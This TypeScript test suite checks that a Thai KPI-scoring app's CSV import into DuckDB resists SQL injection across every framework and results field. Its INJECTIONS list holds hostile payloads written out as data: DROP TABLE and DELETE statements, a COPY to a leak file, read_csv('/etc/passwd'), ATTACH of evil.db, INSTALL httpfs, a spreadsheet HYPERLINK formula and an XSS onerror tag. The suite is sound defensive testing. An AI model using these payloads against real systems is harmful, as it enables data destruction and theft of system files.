/**
 * Issue 7 §6: SQL injection through every field of DESIGN §9.1 (results CSV) and §9.2 (framework.csv,
 * kpis.csv, levels.csv, targets.csv). Files are written as a user would give them and go the app's way:
 * `readFrameworkFiles` → `Workspace.putFramework`, `readResultsText` → `diff` → `commit` →
 * `score`, on both engines (DuckDB-WASM is the browser's; its rows reach DuckDB as CSV text through
 * `read_csv`, native DuckDB's through the appender).
 *
 * - Free-text fields (ids, names, groups, level labels, criteria, notes, file names) hold injection strings
 *   and are accepted: the framework scores exactly like a twin with plain names, and the text is stored
 *   literally.
 * - Fields with a fixed vocabulary or a number (province, fiscal_year, period, weight, scale, …, value) are
 *   refused with a message naming the field, and nothing is stored.
 * - Every table is still there afterwards, with the rows it should have, and a canary table is untouched.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { openNodeNativeDb } from '../db/node-native';
import { openNodeWasmDb } from '../db/node-wasm';
import type { Db } from '../db/types';
import type { Framework } from '../domain/framework';
import { formatCsv } from '../ingest/csv';
import { readFrameworkFiles, type FrameworkFile } from '../ingest/framework-files';
import { readResultsText } from '../ingest/results';
import { Workspace, resolveFrameworkUnit } from './workspace';

/** What an attacker (or an unlucky copy-paste) puts in a cell. Each is used for a different field. */
const INJECTIONS = [
  "'); DROP TABLE results; --",
  '" OR 1=1 --',
  "'; DELETE FROM kpis; SELECT '",
  "1'); INSERT INTO units VALUES ('x', 'district', 'x', 'x', 'x', 0); --",
  "Robert'); DROP TABLE bands;--",
  '\\N',
  '$1',
  '?',
  "'' OR ''=''",
  '"; DROP TABLE "frameworks"; --',
  "x\\'; DROP TABLE periods; --",
  "COPY results TO 'leak.csv'",
  "'||(SELECT string_agg(name, ',') FROM units)||'",
  'ทดสอบ\r\nบรรทัดใหม่ ); DROP TABLE kpi_scores; --',
  '=HYPERLINK("http://x.invalid/?"&A1)',
  "read_csv('/etc/passwd')",
  '<img src=x onerror=alert(1)>',
  "'; ATTACH 'evil.db' AS evil; --",
  '"); INSTALL httpfs; LOAD httpfs; --',
  "\\'; DROP TABLE unit_totals; --",
  'a"b""c\'d\'\'e',
  "'; PRAGMA enable_profiling; --",
  "${1}'); DROP TABLE framework_units; --"
] as const;

const P = (i: number): string => INJECTIONS[i % INJECTIONS.length];

/** The names a framework's text fields get: injection strings, or plain ones for the twin. */
interface Names {
  id: string;
  name: string;
  notes: [string, string];
  source: string;
  /** KPI ids: a measured KPI, a composite and its two sub-items. */
  a: string;
  b: string;
  b1: string;
  b2: string;
  kpiNames: [string, string, string, string];
  groups: [string, string];
  unitLabel: string;
  howToReport: string;
  /** Level labels of KPI a (best first); the second best is its target level. */
  levelsA: [string, string, string, string, string];
  levelsSub: [string, string];
  criteria: string[];
  file: string;
}

const HOSTILE: Names = {
  id: P(0),
  name: P(1),
  notes: [P(2), P(3)],
  source: P(4),
  a: P(5),
  b: P(6),
  b1: P(7),
  b2: P(8),
  kpiNames: [P(9), P(10), P(11), P(12)],
  groups: [P(13), P(14)],
  unitLabel: P(15),
  howToReport: P(16),
  levelsA: [P(17), P(18), P(19), P(20), P(21)],
  levelsSub: [P(22), P(0) + ' 2'],
  criteria: INJECTIONS.map((text, i) => `${text} #${i}`),
  file: `${P(0)}.csv`
};

const PLAIN: Names = {
  id: 'plain',
  name: 'ชุดเกณฑ์ธรรมดา',
  notes: ['หมายเหตุ 1', 'หมายเหตุ 2'],
  source: 'ที่มา',
  a: 'A',
  b: 'B',
  b1: 'B1',
  b2: 'B2',
  kpiNames: ['ก', 'ข', 'ข1', 'ข2'],
  groups: ['ทีม', 'บุคคล'],
  unitLabel: 'ร้อยละ',
  howToReport: 'รายงานเป็นร้อยละ',
  levelsA: ['5', '4', '3', '2', '1'],
  levelsSub: ['x', 'y'],
  criteria: INJECTIONS.map((_, i) => `เกณฑ์ ${i}`),
  file: 'plain.csv'
};

type Cells = Record<string, string>;

interface FrameworkTables {
  framework: Cells[];
  kpis: Cells[];
  levels: Cells[];
  targets: Cells[];
}

/** The §9.2 tables of a framework over ฉะเชิงเทรา, round 2 of FY2565, with the given names. */
function frameworkTables(n: Names): FrameworkTables {
  const kpi = (fields: Cells): Cells => ({
    group: '',
    weight: '',
    scale: '1-5',
    measure: 'value',
    aggregate: 'last',
    interpolate: 'false',
    target_level: '',
    parent: '',
    combine: '',
    unit_label: '',
    how_to_report: '',
    ...fields
  });
  const band = (kpiId: string, level: string, points: number, op: string, value: string, label: string) => ({
    kpi: kpiId,
    level,
    points: String(points),
    op,
    value,
    value2: '',
    unit: '',
    label
  });
  const levels: Cells[] = [
    ...n.levelsA.map((level, i) => band(n.a, level, 5 - i, '>=', String(100 - 20 * i), n.criteria[i])),
    { ...band(n.a, n.levelsA[2], 3, '>=', '50', n.criteria[5]), unit: 'บางคล้า' },
    band(n.b1, n.levelsSub[0], 2, '>=', '10', n.criteria[6]),
    band(n.b1, n.levelsSub[1], 1, '>=', '5', n.criteria[7]),
    band(n.b2, n.levelsSub[0], 2, '<=', '1', n.criteria[8]),
    band(n.b2, n.levelsSub[1], 1, '<=', '3', n.criteria[9]),
    band(n.b, '5', 5, '>=', '4', n.criteria[10]),
    band(n.b, '4', 4, '>=', '3', n.criteria[11]),
    band(n.b, '3', 3, '>=', '2', n.criteria[12]),
    band(n.b, '2', 2, '>=', '1', n.criteria[13]),
    band(n.b, '1', 1, 'any', '', n.criteria[14])
  ];
  return {
    framework: [
      {
        id: n.id,
        name: n.name,
        province: 'ฉะเชิงเทรา',
        fiscal_year: '2565',
        period: 'R2',
        notes: n.notes.join(' | '),
        source: n.source
      }
    ],
    kpis: [
      kpi({
        kpi: n.a,
        name: n.kpiNames[0],
        group: n.groups[0],
        weight: '60',
        target_level: n.levelsA[1],
        unit_label: n.unitLabel,
        how_to_report: n.howToReport
      }),
      kpi({
        kpi: n.b,
        name: n.kpiNames[1],
        group: n.groups[1],
        weight: '40',
        measure: 'combine',
        combine: 'sum'
      }),
      kpi({ kpi: n.b1, name: n.kpiNames[2], scale: 'points', parent: n.b, aggregate: 'sum' }),
      kpi({ kpi: n.b2, name: n.kpiNames[3], scale: 'points', parent: n.b, aggregate: 'max' })
    ],
    levels,
    targets: [{ kpi: n.a, unit: 'บางคล้า', month: '', target: '120', baseline: '' }]
  };
}

function csvFile(name: string, rows: readonly Cells[]): FrameworkFile {
  const columns = Object.keys(rows[0]);
  return { name, text: formatCsv([columns, ...rows.map((row) => columns.map((c) => row[c] ?? ''))]) };
}

function frameworkFiles(tables: FrameworkTables): FrameworkFile[] {
  return [
    csvFile('framework.csv', tables.framework),
    csvFile('kpis.csv', tables.kpis),
    csvFile('levels.csv', tables.levels),
    csvFile('targets.csv', tables.targets)
  ];
}

const DISTRICTS = [
  'เมืองฉะเชิงเทรา',
  'บางคล้า',
  'บางน้ำเปรี้ยว',
  'บางปะกง',
  'บ้านโพธิ์',
  'พนมสารคาม',
  'ราชสาส์น',
  'สนามชัยเขต',
  'แปลงยาว',
  'ท่าตะเกียบ',
  'คลองเขื่อน'
];
const MONTHS = ['2565-04', '2565-05', '2565-06', '2565-07', '2565-08', '2565-09'];

/** §9.1 rows (long format, every column) for every district, KPI a and both sub-items, every month. */
function resultRows(n: Names): Cells[] {
  const rows: Cells[] = [];
  DISTRICTS.forEach((district, d) => {
    MONTHS.forEach((month, m) => {
      const base = { province: 'ฉะเชิงเทรา', district, month, target: '', baseline: '', adjust: '' };
      rows.push({ ...base, kpi: n.a, value: String(30 + ((d * 17 + m * 11) % 80)) });
      rows.push({ ...base, kpi: n.b1, value: String((d + m) % 4) });
      rows.push({
        ...base,
        kpi: n.b2,
        value: String((d * 3 + m) % 5),
        adjust: d === 2 && m === 5 ? '-0.5' : ''
      });
    });
  });
  return rows;
}

function resultsText(rows: readonly Cells[]): string {
  const columns = ['province', 'district', 'kpi', 'month', 'value', 'target', 'baseline', 'adjust'];
  return formatCsv([columns, ...rows.map((row) => columns.map((c) => row[c] ?? ''))]);
}

/** The physical line each row starts on (the header is line 1; a cell with a line break spans two). */
function startLines(rows: readonly Cells[]): number[] {
  let line = 2;
  return rows.map((row) => {
    const start = line;
    line += 1 + Object.values(row).reduce((n, cell) => n + (cell.match(/\r\n|\r|\n/g)?.length ?? 0), 0);
    return start;
  });
}

function readFramework(files: FrameworkFile[]) {
  return readFrameworkFiles(files, { resolveUnit: (name, fw) => resolveFrameworkUnit(fw, name) !== null });
}

const TABLES = [
  'band_ladders',
  'bands',
  'framework_units',
  'frameworks',
  'kpi_scores',
  'kpis',
  'ladder_bands',
  'period_months',
  'periods',
  'results',
  'unit_targets',
  'unit_totals',
  'units',
  'canary'
];

async function tableNames(db: Db): Promise<string[]> {
  const rows = await db.query<{ name: string }>(
    'SELECT table_name AS name FROM duckdb_tables() WHERE NOT temporary ORDER BY table_name'
  );
  return rows.map((row) => row.name);
}

/** Scores of a framework by KPI position, so that a hostile framework and its plain twin compare. */
async function scoresByPosition(db: Db, frameworkId: string) {
  const cells = await db.query(
    `SELECT s.period_id, s.unit_id, k.ord, s.measured, s.points, s.score, s.status, b.ord AS band_ord
     FROM kpi_scores s JOIN kpis k ON k.framework_id = s.framework_id AND k.kpi = s.kpi
     LEFT JOIN bands b ON b.framework_id = s.framework_id AND b.kpi = s.kpi AND b.level = s.level
       AND b.unit_id IS NULL
     WHERE s.framework_id = ? ORDER BY 1, 2, 3`,
    [frameworkId]
  );
  const totals = await db.query(
    `SELECT t.period_id, t.unit_id, coalesce(g.ord, -1) AS grp_ord, t.total, t.max_total, t.rank, t.missing
     FROM unit_totals t LEFT JOIN (SELECT grp, min(ord) AS ord FROM kpis WHERE framework_id = $1 GROUP BY grp) g
       ON g.grp = t.grp
     WHERE t.framework_id = $1 ORDER BY 1, 2, 3`,
    [frameworkId]
  );
  return { cells, totals };
}

const ENGINES: [string, () => Promise<Db>][] = [
  ['DuckDB-WASM', openNodeWasmDb],
  ['native DuckDB', () => openNodeNativeDb()]
];

describe.each(ENGINES)('SQL injection on %s', (_engine, open) => {
  const dbs: Db[] = [];
  afterAll(async () => {
    for (const db of dbs) await db.close();
  });

  async function workspace(): Promise<{ ws: Workspace; db: Db; unitCount: number }> {
    const db = await open();
    dbs.push(db);
    const ws = await Workspace.open(db);
    await db.exec("CREATE TABLE canary (note VARCHAR); INSERT INTO canary VALUES ('still here')");
    const [{ count }] = await db.query<{ count: number }>('SELECT count(*)::INTEGER AS count FROM units');
    return { ws, db, unitCount: count };
  }

  async function expectIntact(db: Db, unitCount: number): Promise<void> {
    expect(await tableNames(db)).toEqual([...TABLES].sort());
    const [{ count }] = await db.query<{ count: number }>('SELECT count(*)::INTEGER AS count FROM units');
    expect(count).toBe(unitCount);
    expect(await db.query('SELECT note FROM canary')).toEqual([{ note: 'still here' }]);
  }

  async function load(ws: Workspace, names: Names): Promise<Framework> {
    const read = readFramework(frameworkFiles(frameworkTables(names)));
    expect(read.issues.filter((i) => i.severity === 'error')).toEqual([]);
    const framework = read.framework!;
    expect(await ws.putFramework(framework)).not.toContainEqual(
      expect.objectContaining({ severity: 'error' })
    );
    const report = readResultsText(names.file, resultsText(resultRows(names)), { framework });
    expect(report.rejected).toEqual([]);
    expect(report.rows).toHaveLength(DISTRICTS.length * MONTHS.length * 3);
    const preview = await ws.diff(framework.id, report.rows);
    expect(preview.added).toBe(report.rows.length);
    const committed = await ws.commit(framework.id, report.rows);
    expect(committed.added).toBe(report.rows.length);
    await ws.ensure(framework.id, 'all');
    return framework;
  }

  it('accepts injection strings in every free-text field, scores like the plain twin and stores them literally', async () => {
    const { ws, db, unitCount } = await workspace();
    await load(ws, PLAIN);
    const hostile = await load(ws, HOSTILE);
    await expectIntact(db, unitCount);

    const plainScores = await scoresByPosition(db, PLAIN.id);
    expect(plainScores.cells).toHaveLength(DISTRICTS.length * 4 * 9); // 4 KPIs × 9 periods of round 2
    expect(plainScores.cells.some((c) => c.status === 'ok')).toBe(true);
    expect(await scoresByPosition(db, HOSTILE.id)).toEqual(plainScores);

    // Stored literally, field by field.
    expect(hostile.id).toBe(HOSTILE.id);
    expect(
      await db.query('SELECT name, province, fiscal_year FROM frameworks WHERE framework_id = ?', [
        HOSTILE.id
      ])
    ).toEqual([{ name: HOSTILE.name, province: 'ฉะเชิงเทรา', fiscal_year: 2565 }]);
    expect(hostile.notes).toEqual(HOSTILE.notes);
    expect(hostile.source).toBe(HOSTILE.source);
    expect(
      await db.query(
        'SELECT kpi, name, grp, target_level, parent FROM kpis WHERE framework_id = ? ORDER BY ord',
        [HOSTILE.id]
      )
    ).toEqual([
      {
        kpi: HOSTILE.a,
        name: HOSTILE.kpiNames[0],
        grp: HOSTILE.groups[0],
        target_level: HOSTILE.levelsA[1],
        parent: null
      },
      { kpi: HOSTILE.b, name: HOSTILE.kpiNames[1], grp: HOSTILE.groups[1], target_level: null, parent: null },
      { kpi: HOSTILE.b1, name: HOSTILE.kpiNames[2], grp: null, target_level: null, parent: HOSTILE.b },
      { kpi: HOSTILE.b2, name: HOSTILE.kpiNames[3], grp: null, target_level: null, parent: HOSTILE.b }
    ]);
    expect(hostile.kpis[0].unitLabel).toBe(HOSTILE.unitLabel);
    expect(hostile.kpis[0].howToReport).toBe(HOSTILE.howToReport);
    const bands = await db.query<{ kpi: string; level: string; label: string; unit_id: string | null }>(
      'SELECT kpi, level, label, unit_id FROM bands WHERE framework_id = ? ORDER BY kpi, ord, unit_id',
      [HOSTILE.id]
    );
    const expectedBands = frameworkTables(HOSTILE).levels.map((b) => ({
      kpi: b.kpi,
      level: b.level,
      label: b.label,
      unit_id: b.unit === '' ? null : '2402'
    }));
    const key = (b: { kpi: string; level: string; unit_id: string | null }) =>
      `${b.kpi}|${b.level}|${b.unit_id}`;
    expect(bands.map(key).sort()).toEqual(expectedBands.map(key).sort());
    expect(new Set(bands.map((b) => b.label))).toEqual(new Set(expectedBands.map((b) => b.label)));
    expect(
      await db.query('SELECT kpi, unit_id, target FROM unit_targets WHERE framework_id = ?', [HOSTILE.id])
    ).toEqual([{ kpi: HOSTILE.a, unit_id: '2402', target: 120 }]);
    const sources = await db.query<{ source: string; kpis: number }>(
      'SELECT source, count(DISTINCT kpi)::INTEGER AS kpis FROM results WHERE framework_id = ? GROUP BY source',
      [HOSTILE.id]
    );
    expect(sources).toEqual([{ source: HOSTILE.file, kpis: 3 }]);
    // The level label reached by a score is the injection string itself.
    const levels = await db.query<{ level: string }>(
      'SELECT DISTINCT level FROM kpi_scores WHERE framework_id = ? AND kpi = ? AND level IS NOT NULL',
      [HOSTILE.id, HOSTILE.a]
    );
    expect(levels.map((l) => l.level).every((l) => HOSTILE.levelsA.includes(l))).toBe(true);
    expect(levels.length).toBeGreaterThanOrEqual(3);
    // The league table reads back the same names.
    const league = await ws.leagueTable(HOSTILE.id, 'FY2565-R2');
    expect(league.framework.name).toBe(HOSTILE.name);
    expect(league.kpis.map((k) => k.kpi)).toEqual([HOSTILE.a, HOSTILE.b]);

    // Removing the framework removes exactly its rows.
    await ws.removeFramework(HOSTILE.id);
    await ws.clearResults(HOSTILE.id);
    await expectIntact(db, unitCount);
    expect(await scoresByPosition(db, PLAIN.id)).toEqual(plainScores);
    const [{ left }] = await db.query<{ left: number }>(
      `SELECT (SELECT count(*) FROM kpis WHERE framework_id = $1) + (SELECT count(*) FROM bands WHERE framework_id = $1)
        + (SELECT count(*) FROM results WHERE framework_id = $1) + (SELECT count(*) FROM kpi_scores WHERE framework_id = $1)
        AS left`,
      [HOSTILE.id]
    );
    expect(left).toBe(0);
  });

  /** §9.2 fields whose value must be one of a list or a number: each one with an injection string. */
  const REFUSED_FRAMEWORK_FIELDS: [string, keyof FrameworkTables, number, string][] = [
    ['framework.csv province', 'framework', 0, 'province'],
    ['framework.csv fiscal_year', 'framework', 0, 'fiscal_year'],
    ['framework.csv period', 'framework', 0, 'period'],
    ['kpis.csv weight', 'kpis', 0, 'weight'],
    ['kpis.csv scale', 'kpis', 0, 'scale'],
    ['kpis.csv measure', 'kpis', 0, 'measure'],
    ['kpis.csv aggregate', 'kpis', 0, 'aggregate'],
    ['kpis.csv interpolate', 'kpis', 0, 'interpolate'],
    ['kpis.csv target_level', 'kpis', 0, 'target_level'],
    ['kpis.csv parent', 'kpis', 0, 'parent'],
    ['kpis.csv combine', 'kpis', 1, 'combine'],
    ['levels.csv kpi', 'levels', 0, 'kpi'],
    ['levels.csv points', 'levels', 0, 'points'],
    ['levels.csv op', 'levels', 0, 'op'],
    ['levels.csv value', 'levels', 0, 'value'],
    ['levels.csv value2', 'levels', 0, 'value2'],
    ['levels.csv unit', 'levels', 5, 'unit'],
    ['targets.csv kpi', 'targets', 0, 'kpi'],
    ['targets.csv unit', 'targets', 0, 'unit'],
    ['targets.csv month', 'targets', 0, 'month'],
    ['targets.csv target', 'targets', 0, 'target'],
    ['targets.csv baseline', 'targets', 0, 'baseline']
  ];

  it.each(REFUSED_FRAMEWORK_FIELDS)(
    '%s: an injection string is refused with a message, nothing is stored',
    async (_name, table, row, column) => {
      const { ws, db, unitCount } = await workspaceOnce();
      for (const [i, payload] of INJECTIONS.entries()) {
        const tables = frameworkTables({ ...PLAIN, id: `refused-${i}` });
        tables[table][row] = { ...tables[table][row], [column]: payload };
        const read = readFramework(frameworkFiles(tables));
        let issues = read.issues;
        if (read.framework) issues = [...issues, ...(await ws.putFramework(read.framework))];
        const file = table === 'framework' ? 'framework.csv' : `${table}.csv`;
        const problem = issues.find((issue) => issue.where.startsWith(file) || issue.where === 'framework');
        expect(problem, `${file} ${column} = ${JSON.stringify(payload)}`).toBeDefined();
        if (column === 'unit') {
          // An unknown district in a per-unit band or target: a warning naming it, and the row is not used.
          expect(problem!.message).toContain(payload.trim());
          const stored = table === 'levels' ? 'bands' : 'unit_targets';
          const [{ count }] = await db.query<{ count: number }>(
            `SELECT count(*)::INTEGER AS count FROM ${stored} WHERE framework_id = ? AND unit_id IS NOT NULL`,
            [`refused-${i}`]
          );
          expect(count).toBe(0);
          await ws.removeFramework(`refused-${i}`);
        } else {
          expect(issues.some((issue) => issue.severity === 'error')).toBe(true);
          expect(ws.framework(`refused-${i}`)).toBeUndefined();
        }
      }
      await expectIntact(db, unitCount);
    }
  );

  let shared: Promise<{ ws: Workspace; db: Db; unitCount: number }> | null = null;
  function workspaceOnce() {
    shared ??= workspace();
    return shared;
  }

  /** §9.1 columns: an injection string in each is a rejected row naming the column; the other rows go in. */
  it.each(['province', 'district', 'kpi', 'month', 'value', 'target', 'baseline', 'adjust'])(
    'results column %s: injection strings are rejected rows, the rest is committed, tables intact',
    async (column) => {
      const { ws, db, unitCount } = await workspaceOnce();
      const id = `results-${column}`;
      const framework = readFramework(frameworkFiles(frameworkTables({ ...PLAIN, id }))).framework!;
      await ws.putFramework(framework);
      const rows = resultRows(PLAIN).slice(0, INJECTIONS.length * 2);
      INJECTIONS.forEach((payload, i) => (rows[i * 2] = { ...rows[i * 2], [column]: payload }));
      const report = readResultsText(`${P(column.length)}.csv`, resultsText(rows), {
        framework,
        onlyFrameworkMonths: true
      });
      const rejectedLines = [...new Set(report.rejected.map((r) => r.line))].sort((a, b) => a - b);
      expect(rejectedLines).toEqual(INJECTIONS.map((_, i) => startLines(rows)[i * 2]));
      for (const rejection of report.rejected) {
        expect(rejection.column?.toLowerCase()).toContain(column === 'district' ? 'district' : column);
      }
      expect(report.rows).toHaveLength(INJECTIONS.length);
      await ws.commit(id, report.rows);
      await ws.ensure(id, 'all');
      const [{ count }] = await db.query<{ count: number }>(
        'SELECT count(*)::INTEGER AS count FROM results WHERE framework_id = ?',
        [id]
      );
      expect(count).toBe(INJECTIONS.length);
      await expectIntact(db, unitCount);
    }
  );
});
